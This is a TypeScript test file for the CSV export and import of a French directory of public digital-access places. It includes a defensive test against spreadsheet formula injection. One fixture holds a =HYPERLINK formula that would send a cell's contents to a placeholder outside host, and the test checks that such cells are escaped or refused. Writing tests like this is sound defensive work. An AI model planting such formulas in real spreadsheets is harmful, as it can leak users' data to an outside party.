// The directory through a spreadsheet: what a network exports, edits and imports back.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { runChecks } from '../../../src/checks/index.ts';
import { loadProject } from '../../../src/model/project.ts';
import { exportDirectory, importDirectory } from '../../../src/repertoire/csv.ts';
import { directoryFolder, writePlaces } from '../../../src/repertoire/files.ts';
import { writeContentTree } from '../../helpers/content-tree.ts';

const TYPOLOGY = {
	'typologie/acces.yaml': `title: Accès
order: 1
summary: Une catégorie de test.
types:
  - { id: poste-libre, label: Poste en libre-service }
  - { id: wifi, label: Wi-Fi gratuit }
`,
	'typologie/formation.yaml': `title: Formation
order: 2
summary: Une autre catégorie.
types:
  - { id: atelier, label: Atelier collectif }
`,
	'types-structures/publics.yaml': `title: Services publics
types:
  - { id: mairie, label: Mairie }
  - { id: mediatheque, label: Médiathèque }
`,
};

const FULL_PLACE = `name: "Médiathèque « Les Quais », annexe"
example: true
zone: Centre
address: { street: "2, rue du Port", postcode: "44000", city: Nantes }
phone: "02 00 00 00 00"
email: accueil@quais.example
referent: { name: Léa Martin, role: "médiatrice ; référente", email: lea@quais.example }
structureType: mediatheque
mediations: [wifi, atelier]
activities: "Deux lignes :\\nla première, puis « la seconde »."
domains: [Culture, Emploi]
public: Tout public
access: "Gratuit, sur inscription"
hours: Mardi 10 h – 18 h
limits: [Pas d’impression, Pas de démarches]
accessibility: partiel
updated: 2026-05-04
`;

const SMALL_PLACE = `name: Mairie annexe
address: { street: 1 place Haute, postcode: "44100", city: Nantes }
structureType: mairie
mediations: [poste-libre]
public: Habitant·e·s
access: Libre
hours: Le matin
updated: 2026-01-02
`;

function project(root: string) {
	return loadProject({ root, contentDir: 'content' });
}

function tree(places: Record<string, string> = { 'repertoire/quais.yaml': FULL_PLACE, 'repertoire/mairie-annexe.yaml': SMALL_PLACE }) {
	return writeContentTree({ ...TYPOLOGY, ...places });
}

/** Changes one cell of a table, as a person would in a spreadsheet; `row` counts the header as 1. */
function edit(csv: string, row: number, header: string, value: string): string {
	const rows = parse(csv, { bom: true }) as string[][];
	rows[row - 1]![rows[0]!.indexOf(header)] = value;
	return stringify(rows);
}

describe('the directory as CSV', () => {
	it('gives back the same file after export → import → export, quotes, commas, semicolons and line breaks included', () => {
		const root = tree();
		const first = exportDirectory(project(root).graph);
		expect(first.startsWith('\uFEFFidentifiant,nom,')).toBe(true);

		const imported = importDirectory(first, project(root).graph);
		expect(imported.problems).toEqual([]);
		const other = writeContentTree(TYPOLOGY);
		const report = writePlaces(directoryFolder(other, 'content'), imported.places);
		expect(report.created.sort()).toEqual(['mairie-annexe', 'quais']);
		const again = project(other);
		expect(runChecks(again).filter((message) => message.fatal)).toEqual([]);
		expect(exportDirectory(again.graph)).toBe(first);

		// Importing the same table again changes nothing.
		expect(writePlaces(directoryFolder(other, 'content'), importDirectory(first, again.graph).places).unchanged.sort()).toEqual([
			'mairie-annexe',
			'quais',
		]);
	});

	it('keeps every field of a place through the round trip', () => {
		const root = tree();
		const imported = importDirectory(exportDirectory(project(root).graph), project(root).graph);
		const quais = imported.places.find((place) => place.id === 'quais')!;
		expect(quais.data).toEqual(project(root).graph.get('repertoire', 'quais')!.data);
		expect(quais.data.activities).toBe('Deux lignes :\nla première, puis « la seconde ».');
		expect(quais.data.referent?.role).toBe('médiatrice ; référente');
	});

	it('says on which line and in which column a cell is wrong, in French, with a hint', () => {
		const csv = exportDirectory(project(tree()).graph);
		let broken = edit(csv, 2, 'code_postal', '440');
		broken = edit(broken, 3, 'mediations', 'Wi-Fi gratuit ; atelir');
		broken = edit(broken, 3, 'type_structure', 'mediateque');
		broken = edit(broken, 2, 'exemple', 'peut-être');
		const { places, problems } = importDirectory(broken, project(tree()).graph);
		expect(places.map((place) => place.id)).toEqual([]);
		expect(problems).toEqual([
			{ row: 2, column: 'exemple', message: '« peut-être » n’est ni « oui » ni « non »', hint: 'attendu : « oui » pour un lieu inventé, sinon « non » ou vide' },
			{ row: 2, column: 'code_postal', message: 'code postal invalide : cinq chiffres, par exemple "31000"', hint: 'attendu : cinq chiffres, par exemple 31000' },
			{ row: 3, column: 'type_structure', message: 'type de structure inconnu « mediateque »', hint: 'vouliez-vous dire « mediatheque » ?' },
			{ row: 3, column: 'mediations', message: 'type de médiation inconnu « Wi-Fi gratuit »', hint: 'vouliez-vous dire « wifi » ?' },
			{ row: 3, column: 'mediations', message: 'type de médiation inconnu « atelir »', hint: 'vouliez-vous dire « atelier » ?' },
		]);
	});

	it('reports a missing required cell, a bad or repeated id, and accepts a new line without id', () => {
		const header = exportDirectory(project(tree({})).graph).trimEnd();
		const line = (id: string, name: string, hours = 'Le soir') =>
			[id, name, '', '', '1 rue Basse', '44000', 'Nantes', '', '', '', '', '', '', 'mairie', 'wifi', '', '', 'Tous', 'Libre', hours, '', '', '2026-02-03'].join(',');
		const csv = [header, line('', 'Point Wi-Fi du Port'), line('point-wi-fi-du-port', 'Doublon'), line('Mauvais Id', 'Autre'), line('sans-horaires', 'Sans horaires', '')].join('\n');
		const { places, problems } = importDirectory(csv, project(tree({})).graph);
		expect(places.map((place) => place.id)).toEqual(['point-wi-fi-du-port']);
		expect(problems.map((problem) => [problem.row, problem.column, problem.message])).toEqual([
			[3, 'identifiant', 'l’identifiant « point-wi-fi-du-port » figure déjà ligne 2'],
			[4, 'identifiant', 'identifiant invalide « Mauvais Id »'],
			[5, 'horaires', 'cellule vide dans une colonne obligatoire'],
		]);
		expect(problems[1]!.hint).toContain('mauvais-id');
	});

	it('reads a table saved with semicolons, as French spreadsheets do', () => {
		const root = tree();
		const csv = exportDirectory(project(root).graph);
		const { places } = importDirectory(csv, project(root).graph);
		const semicolons = ['identifiant;nom;adresse;code_postal;ville;type_structure;mediations;public;conditions_acces;horaires;mise_a_jour', 'quai;Quai;1 rue;44000;Nantes;mairie;"wifi ; atelier";Tous;Libre;Matin;2026-01-01'].join('\n');
		const read = importDirectory(semicolons, project(root).graph);
		expect(read.problems).toEqual([]);
		expect(read.places[0]!.data.mediations).toEqual(['wifi', 'atelier']);
		expect(places.length).toBe(2);
	});

	it('names an unknown column with the closest expected one, and a missing required column', () => {
		const { problems } = importDirectory('identifiant,nom,villes\n', project(tree()).graph);
		expect(problems[0]).toEqual({ row: 1, column: 'villes', message: 'colonne inconnue « villes »', hint: 'vouliez-vous dire « ville » ?' });
		expect(problems.map((problem) => problem.column)).toContain('mediations');
		expect(problems.every((problem) => problem.row === 1)).toBe(true);
	});

	it('writes files the check step reads without a message', () => {
		const root = tree();
		const folder = directoryFolder(root, 'content');
		const text = readFileSync(join(folder, 'quais.yaml'), 'utf8');
		const imported = importDirectory(exportDirectory(project(root).graph), project(root).graph);
		writePlaces(folder, imported.places);
		expect(readFileSync(join(folder, 'quais.yaml'), 'utf8')).not.toBe(text); // rewritten in the canonical form
		expect(runChecks(project(root))).toEqual([]);
	});

	it('writes cells a spreadsheet would run as formulas as text, and reads them back byte for byte', () => {
		const formulas = `name: "=HYPERLINK(\\"https://ailleurs.example/?\\"&A1;\\"clic\\")"
address: { street: "+1 rue du Calcul", postcode: "44000", city: "@Nantes" }
phone: "+33 2 00 00 00 00"
structureType: mairie
mediations: [wifi]
public: "-Tous"
access: "'=déjà protégé"
hours: "'matin"
updated: 2026-01-02
`;
		const root = tree({ 'repertoire/calcul.yaml': formulas });
		const first = exportDirectory(project(root).graph);
		const cells = (parse(first, { bom: true }) as string[][])[1]!;
		// No cell starts as a formula: a spreadsheet shows each as text.
		expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
		expect(cells).toContain(`'=HYPERLINK("https://ailleurs.example/?"&A1;"clic")`);
		expect(cells).toContain("'+33 2 00 00 00 00");
		expect(cells).toContain("''=déjà protégé");
		expect(cells).toContain("'matin");

		const imported = importDirectory(first, project(root).graph);
		expect(imported.problems).toEqual([]);
		expect(imported.places[0]!.data).toEqual(project(root).graph.get('repertoire', 'calcul')!.data);
		const other = writeContentTree(TYPOLOGY);
		writePlaces(directoryFolder(other, 'content'), imported.places);
		expect(exportDirectory(project(other).graph)).toBe(first);
	});

	it('refuses a cell typed as a formula, naming its line and column', () => {
		const csv = exportDirectory(project(tree()).graph);
		let typed = edit(csv, 2, 'nom', '=1+1');
		typed = edit(typed, 3, 'telephone', '+33 2 00 00 00 00');
		typed = edit(typed, 3, 'horaires', '@SUM(A1)');
		const { places, problems } = importDirectory(typed, project(tree()).graph);
		expect(places).toEqual([]);
		expect(problems.map((problem) => [problem.row, problem.column, problem.message])).toEqual([
			[2, 'nom', 'la cellule commence par « = » : un tableur la lirait comme une formule'],
			[3, 'telephone', 'la cellule commence par « + » : un tableur la lirait comme une formule'],
			[3, 'horaires', 'la cellule commence par « @ » : un tableur la lirait comme une formule'],
		]);
		expect(problems[1]!.hint).toBe("si le texte doit commencer ainsi, mettez une apostrophe devant (« '+33 2 00 00 ») ; sinon retirez ce signe");
	});
});
